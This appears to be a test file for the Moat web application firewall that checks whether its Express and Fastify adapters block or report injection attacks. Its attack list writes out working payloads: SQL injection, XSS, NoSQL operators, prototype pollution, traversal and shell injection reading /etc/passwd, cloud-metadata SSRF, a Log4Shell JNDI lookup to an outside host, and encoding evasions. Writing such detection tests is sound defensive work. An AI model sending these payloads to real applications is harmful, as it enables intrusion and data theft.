// Injection attacks sent to real Express and Fastify apps on 127.0.0.1, protected by Moat with attack
// detection set in the rules file: in block mode each attack (query, form, JSON, path, header, cookie,
// and the evasions a router decodes: double encoding, overlong UTF-8, mixed case, SQL comments) must
// be answered 403 before the handler runs; in monitor mode it must reach the handler and the decision
// must carry the category, the location and a redacted snippet. Exclusions, allow-listed IPs and the
// default of a new install (monitor) must let the same requests through.

import { test, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Server } from 'node:http';
import { createRequire } from 'node:module';
import express from 'express';
import Fastify from 'fastify';
import { moat as expressMoat } from '../../src/adapters/express.js';
import { moat as fastifyMoat } from '../../src/adapters/fastify.js';
import { createFirewall, type Firewall } from '../../src/firewall/firewall.js';
import type { Decision } from '../../src/engine/decision.js';
import { parseRulesSource } from '../../src/rules/document.js';
import { writeRulesFile } from '../../src/format/write-rules.js';
import { close, listen, rawRequest, send } from '../adapters-helpers.js';

const dir = mkdtempSync(join(tmpdir(), 'moat-attacks-'));
after(() => rmSync(dir, { recursive: true, force: true }));
let files = 0;

/** A rules file compiled from a rules-as-code document, as `moat-waf compile` writes it. */
function rulesFile(document: object): string {
  const { rules, attacks } = parseRulesSource(JSON.stringify(document));
  const path = join(dir, `rules-${files++}.moat`);
  writeRulesFile(rules, path, { attacks });
  return path;
}

interface App {
  port: number;
  /** Requests the handler served (so a 403 is shown to come before the app). */
  served: string[];
  decisions: Decision[];
  firewall: Firewall;
}

type Framework = 'express' | 'express4' | 'fastify';
// Express 4 too: most Express apps in production still run it, with `qs` turning `a[$ne]=1` into objects.
const FRAMEWORKS: Framework[] = ['express', 'express4', 'fastify'];
/** Express 4 (installed as `express4`); its typings are Express 5's, which cover what is used here. */
const express4 = createRequire(import.meta.url)('express4') as typeof express;

async function start(framework: Framework, rulesPath: string): Promise<App> {
  const decisions: Decision[] = [];
  const served: string[] = [];
  // `now` fixed: nothing here depends on time. JSON bodies are read (opt-in) so JSON attacks are judged.
  const firewall = createFirewall({ rules: rulesPath, logger: false, now: () => 0, body: { json: true }, onDecision: (d) => decisions.push(d) });
  after(() => firewall.close());
  if (framework === 'express' || framework === 'express4') {
    const lib = framework === 'express' ? express : express4;
    const app = lib();
    app.use(expressMoat(firewall));
    app.use(lib.urlencoded({ extended: true }));
    app.use(lib.json());
    // Express 5 names a wildcard; Express 4's router takes `*`.
    app.all(framework === 'express' ? '/{*rest}' : '*', (req, res) => {
      served.push(req.originalUrl);
      res.send('served');
    });
    const server: Server = app.listen(0, '127.0.0.1');
    const port = await listen(server);
    after(() => close(server));
    return { port, served, decisions, firewall };
  }
  const app = Fastify();
  await app.register(fastifyMoat, { firewall });
  app.addContentTypeParser('application/x-www-form-urlencoded', { parseAs: 'string' }, (_req, body, done) => done(null, body));
  app.all('/*', async (req) => {
    served.push(req.url);
    return 'served';
  });
  await app.listen({ port: 0, host: '127.0.0.1' });
  after(() => app.close());
  return { port: (app.server.address() as { port: number }).port, served, decisions, firewall };
}

const BLOCK_ALL = rulesFile({
  allow: { ips: ['198.51.100.7'] },
  attacks: { sqli: 'block', xss: 'block', traversal: 'block', shell: 'block', ssrf: 'block', nosql: 'block', prototype: 'block', template: 'block',
    exclude: [{ path: '/admin/editor', categories: ['xss'], params: ['body.content'] }] },
});
const MONITOR_ALL = rulesFile({ attacks: 'monitor' });
/** Headers the app acts on, named for detection (`attacks.headers`). */
const NAMED_HEADERS = rulesFile({ attacks: { sqli: 'block', xss: 'block', headers: ['X-Search', 'x-tenant'] } });
/** What a new install gets: an empty `attacks` section, every category in monitor. */
const NEW_INSTALL = rulesFile({ attacks: {} });
const NO_ATTACKS = rulesFile({ block: { paths: ['/wp-admin'] } });

const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const JSON_TYPE = { 'content-type': 'application/json' };

interface Attack {
  name: string;
  category: string;
  where: string;
  method?: string;
  path: string;
  headers?: Record<string, string>;
  body?: string;
}

const ATTACKS: Attack[] = [
  { name: "SQL injection ' OR 1=1 in a query value", category: 'sqli', where: 'query.q', path: "/search?q=x'%20OR%201=1--" },
  { name: 'SQL injection UNION SELECT in a form field', category: 'sqli', where: 'body.comment', method: 'POST', path: '/comment', headers: FORM, body: "comment=1'+UNION+SELECT+password+FROM+users--" },
  { name: 'XSS <svg onload> in a JSON field', category: 'xss', where: 'json.user.name', method: 'POST', path: '/profile', headers: JSON_TYPE, body: JSON.stringify({ user: { name: '<svg onload=alert(1)>' } }) },
  { name: 'NoSQL $ne operator as a JSON key', category: 'nosql', where: 'json.password.$ne', method: 'POST', path: '/login', headers: JSON_TYPE, body: '{"user":"admin","password":{"$ne":null}}' },
  { name: 'NoSQL [$ne] operator in a bracketed query key', category: 'nosql', where: 'query.password[$ne]', path: '/login?user=admin&password[$ne]=x' },
  // qs (Express 4's query parser, and `urlencoded({ extended: true })`) decodes a key before it reads its brackets.
  { name: 'NoSQL [$ne] in a percent-encoded query key (qs decodes the key)', category: 'nosql', where: 'query.password[$ne]', path: '/login?user=admin&password%5B%24ne%5D=x' },
  { name: 'NoSQL [$gt] in a percent-encoded form key', category: 'nosql', where: 'body.password[$gt]', method: 'POST', path: '/login', headers: FORM, body: 'user=admin&password%5B%24gt%5D=' },
  { name: 'prototype pollution through __proto__ in JSON', category: 'prototype', where: 'json', method: 'POST', path: '/settings', headers: JSON_TYPE, body: '{"__proto__":{"isAdmin":true}}' },
  { name: 'path traversal to /etc/passwd in the raw path', category: 'traversal', where: 'path', path: '/static/..%2f..%2f..%2fetc/passwd' },
  { name: 'shell injection ;cat /etc/passwd in a query value', category: 'shell', where: 'query.host', path: '/ping?host=127.0.0.1%3Bcat%20/etc/passwd' },
  { name: 'SSRF to the metadata address in a form field', category: 'ssrf', where: 'body.url', method: 'POST', path: '/fetch', headers: FORM, body: 'url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F' },
  { name: 'Log4Shell ${jndi:ldap} in User-Agent', category: 'template', where: 'header.user-agent', path: '/', headers: { 'user-agent': '${jndi:ldap://203.0.113.9/a}' } },
  { name: 'SQL injection in a cookie', category: 'sqli', where: 'cookie.session', path: '/', headers: { cookie: "theme=dark; session=1' OR '1'='1" } },
  // Apps log the client's address into SQL as a proxy passed it on; the attacker writes the first entry.
  { name: 'SQL injection in X-Forwarded-For', category: 'sqli', where: 'header.x-forwarded-for', path: '/', headers: { 'x-forwarded-for': "1.2.3.4', (SELECT password FROM users))-- , 10.0.0.1" } },
  { name: 'XSS in X-Real-IP (an admin page lists addresses)', category: 'xss', where: 'header.x-real-ip', path: '/', headers: { 'x-real-ip': '<img src=x onerror=alert(1)>' } },
  // Evasions, through the real router.
  { name: 'double-encoded traversal %252e%252e%252f', category: 'traversal', where: 'query.file', path: '/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd' },
  { name: 'overlong UTF-8 dots %c0%ae%c0%ae/', category: 'traversal', where: 'query.file', path: '/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd' },
  { name: 'mixed-case <ScRiPt> tag', category: 'xss', where: 'query.q', path: '/search?q=%3CScRiPt%3Ealert(1)%3C/sCrIpT%3E' },
  { name: 'SQL comments for spaces UNION/**/SELECT', category: 'sqli', where: 'query.id', path: '/item?id=1%27/**/UNION/**/SELECT/**/password/**/FROM/**/users--' },
  { name: 'tab for space and quote-glued OR x\'OR\'1\'=\'1', category: 'sqli', where: 'query.name', path: "/search?name=x'OR'1'='1" },
  { name: 'SSRF to 127.1 short loopback', category: 'ssrf', where: 'query.url', path: '/fetch?url=http://127.1:8080/admin' },
  // Browsers never send a `#`, but a client can, and Fastify reads the query from it: `q` is `x' OR 1=1--`
  // (judged as part of the raw path, which runs to the first `?`).
  { name: 'SQL injection in a query that starts at #', category: 'sqli', where: 'path', path: "/search#q=x'%20OR%201=1--" },
  { name: 'XSS in a value that runs past # (Fastify reads `1#<svg onload…>`)', category: 'xss', where: 'query.a', path: '/search?a=1#%3Csvg%20onload=alert(1)%3E' },
];

const BENIGN: { name: string; method?: string; path: string; headers?: Record<string, string>; body?: string }[] = [
  { name: "a name with an apostrophe (O'Brien)", path: "/search?q=O'Brien" },
  { name: 'prose with SQL words', method: 'POST', path: '/comment', headers: FORM, body: 'comment=Please+select+a+plan+and+meet+us+at+Union+Square' },
  { name: 'a relative link inside its folder', path: '/docs?file=docs/../readme.txt' },
  { name: 'a forum post quoting <b>', method: 'POST', path: '/comment', headers: JSON_TYPE, body: JSON.stringify({ text: 'use <b>bold</b> for emphasis, 1<2' }) },
  { name: 'a price with a dollar sign', path: '/search?q=costs+$5+in+cash' },
  // Loopback and private addresses in forwarding headers are proxies' own, not SSRF targets.
  { name: 'forwarding headers of a chain of proxies', path: '/', headers: { 'x-forwarded-for': '203.0.113.195, 127.0.0.1, 10.0.0.1', 'x-real-ip': '::1', forwarded: 'for=192.0.2.60;proto=http;by=127.0.0.1, for="[2001:db8:cafe::17]:4711";host=localhost:3000', 'true-client-ip': '169.254.169.254' } },
];

for (const framework of FRAMEWORKS) {
  test(`${framework}: every attack is blocked in block mode before the handler, with category and location in the decision`, async () => {
    const app = await start(framework, BLOCK_ALL);
    for (const a of ATTACKS) {
      app.decisions.length = 0;
      const res = await send(app.port, { method: a.method, path: a.path, headers: a.headers, body: a.body });
      assert.equal(res.status, 403, `${a.name}: ${res.status}`);
      const d = app.decisions.at(-1)!;
      assert.equal(d.treatment, 'Blocked', a.name);
      assert.equal(d.category, `attack-${a.category}`, a.name);
      assert.ok(d.attack, a.name);
      assert.ok(d.rule.startsWith(`${a.where}: `), `${a.name}: rule text ${JSON.stringify(d.rule)}`);
      assert.ok(d.attack!.snippet.length > 0 && d.attack!.snippet.length <= 64, a.name);
    }
    assert.deepEqual(app.served, [], 'no attack reached the handler');
  });

  test(`${framework}: look-alike benign inputs pass in block mode`, async () => {
    const app = await start(framework, BLOCK_ALL);
    for (const b of BENIGN) {
      const res = await send(app.port, { method: b.method, path: b.path, headers: b.headers, body: b.body });
      assert.equal(res.status, 200, `${b.name} was blocked: ${app.decisions.at(-1)?.rule}`);
    }
    assert.equal(app.served.length, BENIGN.length);
  });

  test(`${framework}: in monitor mode attacks reach the app and are reported with category, location and a redacted snippet`, async () => {
    const app = await start(framework, MONITOR_ALL);
    for (const a of ATTACKS) {
      app.decisions.length = 0;
      const res = await send(app.port, { method: a.method, path: a.path, headers: a.headers, body: a.body });
      // Fastify's own JSON parser refuses `__proto__` keys (400) after Moat let the request through.
      assert.equal(res.status, framework === 'fastify' && a.category === 'prototype' ? 400 : 200, a.name);
      const d = app.decisions.at(-1)!;
      assert.equal(d.treatment, 'Passed', a.name);
      const m = d.monitored.find((x) => x.category === `attack-${a.category}`);
      assert.ok(m, `${a.name}: monitored ${JSON.stringify(d.monitored)}`);
      assert.equal(m.ruleId, `attacks.${a.category}`);
      assert.ok(m.rule.startsWith(`${a.where}: `), `${a.name}: ${m.rule}`);
    }
    assert.equal(app.served.length, ATTACKS.length - (framework === 'fastify' ? 1 : 0));
  });

  test(`${framework}: a card number in an attack is masked in the reported snippet`, async () => {
    const app = await start(framework, MONITOR_ALL);
    await send(app.port, { path: "/pay?card=4111111111111111'%20OR%201=1--" });
    const m = app.decisions.at(-1)!.monitored.find((x) => x.category === 'attack-sqli')!;
    assert.ok(!m.rule.includes('4111111111111111'), m.rule);
    assert.ok(m.rule.includes('################'), m.rule);
  });

  test(`${framework}: a new install (empty attacks section) blocks nothing and monitors every category`, async () => {
    const app = await start(framework, NEW_INSTALL);
    for (const a of ATTACKS) {
      const res = await send(app.port, { method: a.method, path: a.path, headers: a.headers, body: a.body });
      assert.notEqual(res.status, 403, a.name);
    }
    const categories = new Set<string>(app.decisions.flatMap((d) => d.monitored.map((m) => m.category)));
    for (const c of ['sqli', 'xss', 'traversal', 'shell', 'ssrf', 'nosql', 'prototype', 'template']) assert.ok(categories.has(`attack-${c}`), c);
  });

  test(`${framework}: XSS in the excluded editor field passes; the same XSS in another field and SQL injection in that field are blocked`, async () => {
    const app = await start(framework, BLOCK_ALL);
    const post = (body: string) => send(app.port, { method: 'POST', path: '/admin/editor', headers: FORM, body });
    assert.equal((await post('content=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E')).status, 200);
    assert.equal((await post('title=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E')).status, 403);
    assert.equal((await post("content=1'+UNION+SELECT+password+FROM+users--")).status, 403);
    assert.equal((await send(app.port, { method: 'POST', path: '/admin/other', headers: FORM, body: 'content=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E' })).status, 403);
  });

  test(`${framework}: headers the settings name are judged, each under its own name; a header nobody named is not`, async () => {
    const app = await start(framework, NAMED_HEADERS);
    const get = (headers: Record<string, string>) => send(app.port, { path: '/search?q=shoes', headers });
    assert.equal((await get({ 'x-search': "shoes' UNION SELECT password FROM users-- " })).status, 403);
    assert.ok(app.decisions.at(-1)!.rule.startsWith('header.x-search: '), app.decisions.at(-1)!.rule);
    assert.equal((await get({ 'X-Tenant': '<svg onload=alert(1)>' })).status, 403);
    assert.ok(app.decisions.at(-1)!.rule.startsWith('header.x-tenant: '), app.decisions.at(-1)!.rule);
    // Sent twice: Node joins the values, and the join is judged.
    const head = "GET /search?q=shoes HTTP/1.1\r\nHost: example.test\r\nConnection: close\r\nX-Tenant: acme\r\nX-Tenant: 1' OR '1'='1\r\n\r\n";
    const twice = await rawRequest(app.port, Buffer.from(head, 'latin1'));
    assert.equal(twice.status, 403);
    assert.equal((await get({ 'x-search': "O'Brien's <b>shop</b>" })).status, 200);
    assert.equal((await get({ 'x-other': "shoes' UNION SELECT password FROM users-- " })).status, 200);
    assert.equal(app.served.length, 2);
  });

  test(`${framework}: an allow-listed client IP is not judged for attacks`, async () => {
    const rules = rulesFile({ allow: { ips: ['127.0.0.1'] }, attacks: 'block' });
    const app = await start(framework, rules);
    const res = await send(app.port, { path: "/search?q=x'%20OR%201=1--" });
    assert.equal(res.status, 200);
    assert.equal(app.decisions.at(-1)!.treatment, 'Allowed');
  });

  test(`${framework}: a rules file without attack settings (older files) means detection off`, async () => {
    const app = await start(framework, NO_ATTACKS);
    const res = await send(app.port, { path: "/search?q=x'%20OR%201=1--" });
    assert.equal(res.status, 200);
    assert.deepEqual(app.decisions.at(-1)!.monitored, []);
    assert.equal(app.firewall.currentEngine?.rules?.attacks, null);
  });
}
